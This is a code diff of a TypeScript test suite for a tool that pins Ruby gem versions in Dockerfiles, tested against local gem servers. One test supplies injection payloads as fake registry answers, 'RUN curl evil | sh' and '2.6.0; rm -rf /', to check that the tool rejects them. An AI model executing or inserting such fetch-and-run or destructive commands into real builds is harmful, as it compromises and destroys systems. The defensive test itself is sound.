@@ -1,9 +1,15 @@
 /**
- * gem-version through the fix engine against RubyGems API v1 servers on loopback: the exact pinned text,
+ * gem-version through the fix engine against gem servers on loopback whose gems and index the real `gem build`
+ * and `gem generate_index` made (test/helpers/gemServer.ts): the exact pinned text,
  * the newest-release and requirement rules, several sources, failures left with their reason while the
  * other gems of the command are pinned, malformed answers refused, the lock, and one lookup per gem.
  */
+import { execFile } from 'node:child_process';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { Lookups } from '../../src/resolve/shared';
 import { fixText, type FixOutcome } from '../../src/fix';
 import { gemVersionFixer } from '../../src/fixers/gem-version';
 import { HttpClient } from '../../src/resolve/http';
@@ -11,153 +17,208 @@ import { LockFile } from '../../src/resolve/lock';
 import { compareGemVersions, satisfiesGem, parseGemRequirement } from '../../src/resolve/rubygems';
 import rule from '../../src/rules/gem-pin';
 import { packageFix, useFixtureServers } from '../helpers/packageFix';
-import { startRubyGems, type FixtureServer } from '../helpers/packageServers';
+import { GEM_TOOLS, startGemServer } from '../helpers/gemServer';
+import type { FixtureServer } from '../helpers/packageServers';
+import { describeWithTools } from '../helpers/realTools';
 import { workspace } from '../helpers/workspace';
-import { Lookups } from '../../src/resolve/shared';
 
 let main: FixtureServer;
 let mirror: FixtureServer;
 let plain: FixtureServer;
 
-useFixtureServers(async () => {
-  main = await startRubyGems({
-    rails: [{ number: '8.0.0.rc1' }, { number: '7.2.1' }, { number: '7.2.0' }, { number: '7.1.5' }, { number: '7.1.4' }],
-    bundler: [{ number: '2.5.11' }, { number: '2.5.10' }, { number: '2.4.22' }, { number: '2.4.21' }],
-    nokogiri: [{ number: '1.16.7' }, { number: '1.16.7', platform: 'x86_64-linux' }, { number: '1.16.6' }],
-    onlypre: [{ number: '1.0.0.beta2' }, { number: '1.0.0.beta1' }],
-    evil: [{ number: '1.0.0' }],
-    broken: [{ number: '1.0.0' }],
-  });
-  mirror = await startRubyGems({ rails: [{ number: '7.2.2' }], inhouse: [{ number: '0.3.0' }, { number: '0.2.9' }] });
-  // A gem server without latest.json; the newest nokogiri exists only for Java.
-  plain = await startRubyGems({ nokogiri: [{ number: '1.17.0', platform: 'java' }, { number: '1.16.7', platform: 'x86_64-linux' }, { number: '1.16.5' }] }, { latestEndpoint: false });
-  return [main, mirror, plain];
-});
-
-const fix = packageFix(() => ({ rule, fixer: gemVersionFixer({ defaultSource: main.url }) }));
-
-const reasons = (r: FixOutcome) => r.left.map((l) => [l.left, l.reason]);
-
-describe('gem-version', () => {
-  it('pins each gem word as name:version with the newest release, keeping quotes and every other byte', async () => {
-    const r = await fix(`FROM ruby:3.3\nRUN gem install --no-document rails "bundler" \\\n && gem i 'nokogiri'\n`);
-    expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install --no-document rails:7.2.1 "bundler:2.5.11" \\\n && gem i 'nokogiri:1.16.7'\n`);
-    expect(r.left).toEqual([]);
-    expect(r.applied).toEqual([
-      { rule: 'gem-pin', title: `pin gem 'rails' → 'rails:7.2.1' (newest release on ${main.url}/)`, applicability: 'safe' },
-      { rule: 'gem-pin', title: `pin gem 'bundler' → 'bundler:2.5.11' (newest release on ${main.url}/)`, applicability: 'safe' },
-      { rule: 'gem-pin', title: `pin gem 'nokogiri' → 'nokogiri:1.16.7' (newest release on ${main.url}/)`, applicability: 'safe' },
-    ]);
-    // latest.json answers a plain install: one small request per gem.
-    expect(main.requests.sort()).toEqual(['/api/v1/versions/bundler/latest.json', '/api/v1/versions/nokogiri/latest.json', '/api/v1/versions/rails/latest.json']);
+describeWithTools('gem-version against gem servers made by the real gem', GEM_TOOLS, () => {
+  useFixtureServers(async () => {
+    main = await startGemServer({
+      rails: [{ number: '8.0.0.rc1' }, { number: '7.2.1' }, { number: '7.2.0' }, { number: '7.1.5' }, { number: '7.1.4' }],
+      bundler: [{ number: '2.5.11' }, { number: '2.5.10' }, { number: '2.4.22' }, { number: '2.4.21' }],
+      nokogiri: [{ number: '1.16.7' }, { number: '1.16.7', platform: 'x86_64-linux' }, { number: '1.16.6' }],
+      onlypre: [{ number: '1.0.0.beta2' }, { number: '1.0.0.beta1' }],
+      evil: [{ number: '1.0.0' }],
+      broken: [{ number: '1.0.0' }],
+    });
+    mirror = await startGemServer({ rails: [{ number: '7.2.2' }], inhouse: [{ number: '0.3.0' }, { number: '0.2.9' }] });
+    // A gem server without latest.json; the newest nokogiri exists only for Java.
+    plain = await startGemServer({ nokogiri: [{ number: '1.17.0', platform: 'java' }, { number: '1.16.7', platform: 'x86_64-linux' }, { number: '1.16.5' }] }, { latestEndpoint: false });
+    return [main, mirror, plain];
   });
 
-  it('a requirement, in the gem word or with -v, becomes the newest version matching it', async () => {
-    const r = await fix(`FROM ruby:3.3\nRUN gem install 'rails:~> 7.1.0' && gem install bundler --version '~> 2.4.0' && gem install bundler --version='>= 2.4, < 2.5'\n`);
-    expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install 'rails:7.1.5' && gem install bundler --version '2.4.22' && gem install bundler --version='2.4.22'\n`);
-    expect(r.left).toEqual([]);
-    expect(r.applied.map((a) => a.title)).toEqual([
-      `pin gem 'rails:~> 7.1.0' → 'rails:7.1.5' (newest release matching '~> 7.1.0' on ${main.url}/)`,
-      `pin gem 'bundler' version '~> 2.4.0' → '2.4.22' (newest release matching '~> 2.4.0' on ${main.url}/)`,
-      `pin gem 'bundler' version '>= 2.4, < 2.5' → '2.4.22' (newest release matching '>= 2.4, < 2.5' on ${main.url}/)`,
-    ]);
+  const fix = packageFix(() => ({ rule, fixer: gemVersionFixer({ defaultSource: main.url }) }));
+
+  const reasons = (r: FixOutcome) => r.left.map((l) => [l.left, l.reason]);
+  const execFileAsync = promisify(execFile);
+
+  describe('gem-version', () => {
+    it('pins each gem word as name:version with the newest release, keeping quotes and every other byte', async () => {
+      const r = await fix(`FROM ruby:3.3\nRUN gem install --no-document rails "bundler" \\\n && gem i 'nokogiri'\n`);
+      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install --no-document rails:7.2.1 "bundler:2.5.11" \\\n && gem i 'nokogiri:1.16.7'\n`);
+      expect(r.left).toEqual([]);
+      expect(r.applied).toEqual([
+        { rule: 'gem-pin', title: `pin gem 'rails' → 'rails:7.2.1' (newest release on ${main.url}/)`, applicability: 'safe' },
+        { rule: 'gem-pin', title: `pin gem 'bundler' → 'bundler:2.5.11' (newest release on ${main.url}/)`, applicability: 'safe' },
+        { rule: 'gem-pin', title: `pin gem 'nokogiri' → 'nokogiri:1.16.7' (newest release on ${main.url}/)`, applicability: 'safe' },
+      ]);
+      // latest.json answers a plain install: one small request per gem.
+      expect(main.requests.sort()).toEqual(['/api/v1/versions/bundler/latest.json', '/api/v1/versions/nokogiri/latest.json', '/api/v1/versions/rails/latest.json']);
+    });
+
+    it('a requirement, in the gem word or with -v, becomes the newest version matching it', async () => {
+      const r = await fix(`FROM ruby:3.3\nRUN gem install 'rails:~> 7.1.0' && gem install bundler --version '~> 2.4.0' && gem install bundler --version='>= 2.4, < 2.5'\n`);
+      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install 'rails:7.1.5' && gem install bundler --version '2.4.22' && gem install bundler --version='2.4.22'\n`);
+      expect(r.left).toEqual([]);
+      expect(r.applied.map((a) => a.title)).toEqual([
+        `pin gem 'rails:~> 7.1.0' → 'rails:7.1.5' (newest release matching '~> 7.1.0' on ${main.url}/)`,
+        `pin gem 'bundler' version '~> 2.4.0' → '2.4.22' (newest release matching '~> 2.4.0' on ${main.url}/)`,
+        `pin gem 'bundler' version '>= 2.4, < 2.5' → '2.4.22' (newest release matching '>= 2.4, < 2.5' on ${main.url}/)`,
+      ]);
+    });
+
+    it('prereleases only with --pre; a gem with only prereleases is left with the reason', async () => {
+      const r = await fix(`FROM ruby:3.3\nRUN gem install --pre rails && gem install onlypre\n`);
+      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install --pre rails:8.0.0.rc1 && gem install onlypre\n`);
+      expect(reasons(r)).toEqual([['failed', `lookup failed: ${main.url}/api/v1/versions/onlypre.json: gem 'onlypre' has only prereleases (no release)`]]);
+    });
+
+    it('a gem the source does not have is left while the others in the command are pinned', async () => {
+      // rubygems.org's latest.json for a gem it does not have (a static gem server answers 404 instead).
+      main.override.set('/api/v1/versions/nosuchgem/latest.json', { status: 200, body: JSON.stringify({ version: 'unknown' }) });
+      const r = await fix(`FROM ruby:3.3\nRUN gem install nosuchgem rails\n`);
+      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install nosuchgem rails:7.2.1\n`);
+      expect(reasons(r)).toEqual([['failed', `lookup failed: gem 'nosuchgem' is not on ${main.url}/`]]);
+      // latest.json says "unknown"; the version list (404) confirms.
+      expect(main.requests).toContain('/api/v1/versions/nosuchgem.json');
+    });
+
+    it('sources: --source adds to rubygems.org (the highest version wins); --clear-sources first makes it the only one', async () => {
+      const r = await fix(`FROM ruby:3.3\nRUN gem install --source ${mirror.url} rails && gem install --clear-sources --source ${mirror.url}/ inhouse\n`);
+      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install --source ${mirror.url} rails:7.2.2 && gem install --clear-sources --source ${mirror.url}/ inhouse:0.3.0\n`);
+      expect(r.applied.map((a) => a.title)).toEqual([
+        `pin gem 'rails' → 'rails:7.2.2' (newest release on ${mirror.url}/)`,
+        `pin gem 'inhouse' → 'inhouse:0.3.0' (newest release on ${mirror.url}/)`,
+      ]);
+      expect(main.requests).toEqual(['/api/v1/versions/rails/latest.json']);
+    });
+
+    it('a server without latest.json: the version list decides, Linux platforms only', async () => {
+      const r = await fix(`FROM ruby:3.3\nRUN gem install --clear-sources -s ${plain.url} nokogiri\n`);
+      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install --clear-sources -s ${plain.url} nokogiri:1.16.7\n`);
+      expect(plain.requests).toEqual(['/api/v1/versions/nokogiri/latest.json', '/api/v1/versions/nokogiri.json']);
+    });
+
+    it('malformed answers are refused: nothing unsafe is ever written', async () => {
+      main.override.set('/api/v1/versions/evil/latest.json', { status: 200, body: JSON.stringify({ version: '1.0.0\nRUN curl evil | sh' }) });
+      main.override.set('/api/v1/versions/broken/latest.json', { status: 200, body: '{"version": ' });
+      main.override.set('/api/v1/versions/bundler.json', { status: 200, body: JSON.stringify([{ number: '2.6.0; rm -rf /', platform: 'ruby' }]) });
+      const r = await fix(`FROM ruby:3.3\nRUN gem install evil broken rails && gem install --pre bundler\n`);
+      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install evil broken rails:7.2.1 && gem install --pre bundler\n`);
+      expect(reasons(r)).toEqual([
+        ['failed', `lookup failed: ${main.url}/api/v1/versions/evil/latest.json: malformed version "1.0.0\\nRUN curl evil | sh"`],
+        ['failed', `lookup failed: ${main.url}/api/v1/versions/broken/latest.json: the answer is not valid JSON`],
+        ['failed', `lookup failed: ${main.url}/api/v1/versions/bundler.json: malformed version "2.6.0; rm -rf /"`],
+      ]);
+    });
+
+    it('a server error is left with the reason', async () => {
+      main.override.set('/api/v1/versions/rails/latest.json', { status: 503, body: 'down' });
+      const r = await fix(`FROM ruby:3.3\nRUN gem install rails\n`);
+      expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install rails\n`);
+      expect(reasons(r)).toEqual([['failed', `lookup failed: ${main.url}/api/v1/versions/rails/latest.json: registry server error 503, retries exhausted`]]);
+    });
+
+    /** The version the real gem would install (`gem install --explain`, no installed gems, only `sources`), and gem-version's pin. */
+    async function gemAndFixer(args: string, sources: FixtureServer[], name: string): Promise<[string | undefined, string | undefined]> {
+      const home = mkdtempSync(join(tmpdir(), 'dockrepro-gem-home-'));
+      try {
+        const env = { ...process.env, GEM_HOME: home, GEM_PATH: home, HOME: home };
+        const words = args.match(/'[^']*'|\S+/g)!.map((w) => w.replace(/^'|'$/g, ''));
+        const sourceArgs = sources.flatMap((s) => ['--source', `${s.url}/`]);
+        // --remote and an empty working directory: no .gem file lying around is a candidate.
+        const { stdout } = await execFileAsync('gem', ['install', '--explain', '--remote', '--clear-sources', ...sourceArgs, ...words], { env, cwd: home });
+        // "Gems to install:\n  nokogiri-1.16.7-x86_64-linux\n": the version follows the name, a platform may follow it.
+        const gem = new RegExp(`^  ${name}-([^-\\s]+)`, 'm').exec(stdout)?.[1];
+        // The same sources for the fixer: main is its default source; the others are added with --source.
+        const [first, ...more] = sources;
+        const options = `${first === main ? '' : `--clear-sources --source ${first.url} `}${more.map((s) => `--source ${s.url} `).join('')}`;
+        const r = await fix(`FROM ruby:3.3\nRUN gem install ${options}${args}\n`);
+        expect(r.applied).toHaveLength(1);
+        return [gem, /→ '(?:[^':]+:)?([^']+)'/.exec(r.applied[0].title)?.[1]];
+      } finally {
+        rmSync(home, { recursive: true, force: true });
+      }
+    }
+
+    it('pins what the real gem would install from the same server (gem install --explain)', async () => {
+      const cases: [string, FixtureServer, string][] = [
+        ['rails', main, 'rails'],
+        ['--pre rails', main, 'rails'],
+        ["'rails:~> 7.1.0'", main, 'rails'],
+        ["bundler --version '>= 2.4, < 2.5'", main, 'bundler'],
+        ['nokogiri', main, 'nokogiri'],
+        ['nokogiri', plain, 'nokogiri'],
+      ];
+      for (const [args, source, name] of cases) {
+        const [gem, pinned] = await gemAndFixer(args, [source], name);
+        expect([args, source.url, gem]).toEqual([args, source.url, pinned]);
+        expect(gem).toMatch(/^\d/);
+      }
+    }, 120_000);
+
+    // FINDING, not fixed here (no src/ changes in this branch): with several sources, RubyGems 3.3 (Debian 12)
+    // installs the newest version of the FIRST source that has the gem (Gem::Resolver groups candidates by
+    // source), not the highest over all sources as gem-version assumes: `gem install --source MIRROR rails`
+    // installs rubygems.org's rails. This test fails while the disagreement lasts (it.failing passes then).
+    it.failing('with several sources, pins what the real gem would install', async () => {
+      const [gem, pinned] = await gemAndFixer('rails', [main, mirror], 'rails');
+      expect(gem).toBe('7.2.1');
+      expect(pinned).toBe(gem);
+    }, 120_000);
+
+    it('the lock makes a re-run offline and identical, with no request', async () => {
+      const text = `FROM ruby:3.3\nRUN gem install rails 'bundler:~> 2.4.0'\n`;
+      const first = await fix(text);
+      expect(first.text).toBe(`FROM ruby:3.3\nRUN gem install rails:7.2.1 'bundler:2.4.22'\n`);
+      expect(first.lock.getPackage(`gem:rails ${main.url}/`)).toEqual({ version: '7.2.1', resolvedAt: '2026-11-25T12:00:00.000Z' });
+      expect(first.lock.getPackage(`gem:bundler ~> 2.4.0 ${main.url}/`)?.version).toBe('2.4.22');
+      const http = new HttpClient({ retries: 0 });
+      const again = await fix(text, { lock: first.lock, offline: true, http });
+      expect(again.text).toBe(first.text);
+      expect(again.applied.map((a) => a.title)).toEqual([
+        `pin gem 'rails' → 'rails:7.2.1' (from ${first.lock.path})`,
+        `pin gem 'bundler:~> 2.4.0' → 'bundler:2.4.22' (from ${first.lock.path})`,
+      ]);
+      expect(http.requests).toBe(0);
+      // Offline without a lock entry: left as needing the network.
+      const cold = await fix(text, { offline: true, http });
+      expect(cold.left.map((l) => l.left)).toEqual(['needs-network', 'needs-network']);
+    });
+
+    it('one lookup per gem and sources for a whole run, however many commands and files name it', async () => {
+      const lookups = new Lookups();
+      const http = new HttpClient({ retries: 0 });
+      const lock = LockFile.load(join(workspace({}), 'dockrepro.lock.json'));
+      const a = await fix(`FROM ruby:3.3\nRUN gem install rails && gem install rails\n`, { lookups, http, lock });
+      const b = await fix(`FROM ruby:3.2\nRUN gem install "rails"\n`, { lookups, http, lock });
+      expect(a.text).toBe(`FROM ruby:3.3\nRUN gem install rails:7.2.1 && gem install rails:7.2.1\n`);
+      expect(b.text).toBe(`FROM ruby:3.2\nRUN gem install "rails:7.2.1"\n`);
+      expect(main.requests).toEqual(['/api/v1/versions/rails/latest.json']);
+    });
+
+    it('leaves what it cannot pin safely, with the reason', async () => {
+      const r = await fix(`FROM ruby:3.3\nARG G=rails\nRUN gem install $G && gem install bundler -v '>= 2' -v '< 3' && gem install --clear-sources rails\n`);
+      expect(r.text).toBe(`FROM ruby:3.3\nARG G=rails\nRUN gem install $G && gem install bundler -v '>= 2' -v '< 3' && gem install --clear-sources rails\n`);
+      expect(reasons(r)).toEqual([
+        ['no-fixer', `'$G' comes from $G: pin it where the variable is defined`],
+        ['no-fixer', 'several -v options make one compound requirement: write a single exact -v by hand'],
+        ['no-fixer', '--clear-sources leaves no gem source'],
+      ]);
+    });
+
+    it('without a package context the finding needs the network', async () => {
+      const fixer = gemVersionFixer({ defaultSource: main.url });
+      const r = await fixText(`FROM ruby:3.3\nRUN gem install rails\n`, { rules: [rule], unsafe: false, offline: false, baseId: 10001, fixers: new Map([[fixer.kind, fixer]]) });
+      expect(reasons(r)).toEqual([['needs-network', 'needs a package index lookup']]);
+    });
   });
 
-  it('prereleases only with --pre; a gem with only prereleases is left with the reason', async () => {
-    const r = await fix(`FROM ruby:3.3\nRUN gem install --pre rails && gem install onlypre\n`);
-    expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install --pre rails:8.0.0.rc1 && gem install onlypre\n`);
-    expect(reasons(r)).toEqual([['failed', `lookup failed: ${main.url}/api/v1/versions/onlypre.json: gem 'onlypre' has only prereleases (no release)`]]);
-  });
-
-  it('a gem the source does not have is left while the others in the command are pinned', async () => {
-    const r = await fix(`FROM ruby:3.3\nRUN gem install nosuchgem rails\n`);
-    expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install nosuchgem rails:7.2.1\n`);
-    expect(reasons(r)).toEqual([['failed', `lookup failed: gem 'nosuchgem' is not on ${main.url}/`]]);
-    // latest.json says "unknown"; the version list (404) confirms.
-    expect(main.requests).toContain('/api/v1/versions/nosuchgem.json');
-  });
-
-  it('sources: --source adds to rubygems.org (the highest version wins); --clear-sources first makes it the only one', async () => {
-    const r = await fix(`FROM ruby:3.3\nRUN gem install --source ${mirror.url} rails && gem install --clear-sources --source ${mirror.url}/ inhouse\n`);
-    expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install --source ${mirror.url} rails:7.2.2 && gem install --clear-sources --source ${mirror.url}/ inhouse:0.3.0\n`);
-    expect(r.applied.map((a) => a.title)).toEqual([
-      `pin gem 'rails' → 'rails:7.2.2' (newest release on ${mirror.url}/)`,
-      `pin gem 'inhouse' → 'inhouse:0.3.0' (newest release on ${mirror.url}/)`,
-    ]);
-    expect(main.requests).toEqual(['/api/v1/versions/rails/latest.json']);
-  });
-
-  it('a server without latest.json: the version list decides, Linux platforms only', async () => {
-    const r = await fix(`FROM ruby:3.3\nRUN gem install --clear-sources -s ${plain.url} nokogiri\n`);
-    expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install --clear-sources -s ${plain.url} nokogiri:1.16.7\n`);
-    expect(plain.requests).toEqual(['/api/v1/versions/nokogiri/latest.json', '/api/v1/versions/nokogiri.json']);
-  });
-
-  it('malformed answers are refused: nothing unsafe is ever written', async () => {
-    main.override.set('/api/v1/versions/evil/latest.json', { status: 200, body: JSON.stringify({ version: '1.0.0\nRUN curl evil | sh' }) });
-    main.override.set('/api/v1/versions/broken/latest.json', { status: 200, body: '{"version": ' });
-    main.override.set('/api/v1/versions/bundler.json', { status: 200, body: JSON.stringify([{ number: '2.6.0; rm -rf /', platform: 'ruby' }]) });
-    const r = await fix(`FROM ruby:3.3\nRUN gem install evil broken rails && gem install --pre bundler\n`);
-    expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install evil broken rails:7.2.1 && gem install --pre bundler\n`);
-    expect(reasons(r)).toEqual([
-      ['failed', `lookup failed: ${main.url}/api/v1/versions/evil/latest.json: malformed version "1.0.0\\nRUN curl evil | sh"`],
-      ['failed', `lookup failed: ${main.url}/api/v1/versions/broken/latest.json: the answer is not valid JSON`],
-      ['failed', `lookup failed: ${main.url}/api/v1/versions/bundler.json: malformed version "2.6.0; rm -rf /"`],
-    ]);
-  });
-
-  it('a server error is left with the reason', async () => {
-    main.override.set('/api/v1/versions/rails/latest.json', { status: 503, body: 'down' });
-    const r = await fix(`FROM ruby:3.3\nRUN gem install rails\n`);
-    expect(r.text).toBe(`FROM ruby:3.3\nRUN gem install rails\n`);
-    expect(reasons(r)).toEqual([['failed', `lookup failed: ${main.url}/api/v1/versions/rails/latest.json: registry server error 503, retries exhausted`]]);
-  });
-
-  it('the lock makes a re-run offline and identical, with no request', async () => {
-    const text = `FROM ruby:3.3\nRUN gem install rails 'bundler:~> 2.4.0'\n`;
-    const first = await fix(text);
-    expect(first.text).toBe(`FROM ruby:3.3\nRUN gem install rails:7.2.1 'bundler:2.4.22'\n`);
-    expect(first.lock.getPackage(`gem:rails ${main.url}/`)).toEqual({ version: '7.2.1', resolvedAt: '2026-11-25T12:00:00.000Z' });
-    expect(first.lock.getPackage(`gem:bundler ~> 2.4.0 ${main.url}/`)?.version).toBe('2.4.22');
-    const http = new HttpClient({ retries: 0 });
-    const again = await fix(text, { lock: first.lock, offline: true, http });
-    expect(again.text).toBe(first.text);
-    expect(again.applied.map((a) => a.title)).toEqual([
-      `pin gem 'rails' → 'rails:7.2.1' (from ${first.lock.path})`,
-      `pin gem 'bundler:~> 2.4.0' → 'bundler:2.4.22' (from ${first.lock.path})`,
-    ]);
-    expect(http.requests).toBe(0);
-    // Offline without a lock entry: left as needing the network.
-    const cold = await fix(text, { offline: true, http });
-    expect(cold.left.map((l) => l.left)).toEqual(['needs-network', 'needs-network']);
-  });
-
-  it('one lookup per gem and sources for a whole run, however many commands and files name it', async () => {
-    const lookups = new Lookups();
-    const http = new HttpClient({ retries: 0 });
-    const lock = LockFile.load(join(workspace({}), 'dockrepro.lock.json'));
-    const a = await fix(`FROM ruby:3.3\nRUN gem install rails && gem install rails\n`, { lookups, http, lock });
-    const b = await fix(`FROM ruby:3.2\nRUN gem install "rails"\n`, { lookups, http, lock });
-    expect(a.text).toBe(`FROM ruby:3.3\nRUN gem install rails:7.2.1 && gem install rails:7.2.1\n`);
-    expect(b.text).toBe(`FROM ruby:3.2\nRUN gem install "rails:7.2.1"\n`);
-    expect(main.requests).toEqual(['/api/v1/versions/rails/latest.json']);
-  });
-
-  it('leaves what it cannot pin safely, with the reason', async () => {
-    const r = await fix(`FROM ruby:3.3\nARG G=rails\nRUN gem install $G && gem install bundler -v '>= 2' -v '< 3' && gem install --clear-sources rails\n`);
-    expect(r.text).toBe(`FROM ruby:3.3\nARG G=rails\nRUN gem install $G && gem install bundler -v '>= 2' -v '< 3' && gem install --clear-sources rails\n`);
-    expect(reasons(r)).toEqual([
-      ['no-fixer', `'$G' comes from $G: pin it where the variable is defined`],
-      ['no-fixer', 'several -v options make one compound requirement: write a single exact -v by hand'],
-      ['no-fixer', '--clear-sources leaves no gem source'],
-    ]);
-  });
-
-  it('without a package context the finding needs the network', async () => {
-    const fixer = gemVersionFixer({ defaultSource: main.url });
-    const r = await fixText(`FROM ruby:3.3\nRUN gem install rails\n`, { rules: [rule], unsafe: false, offline: false, baseId: 10001, fixers: new Map([[fixer.kind, fixer]]) });
-    expect(reasons(r)).toEqual([['needs-network', 'needs a package index lookup']]);
-  });
 });
 
 describe('Gem::Version and Gem::Requirement', () => {
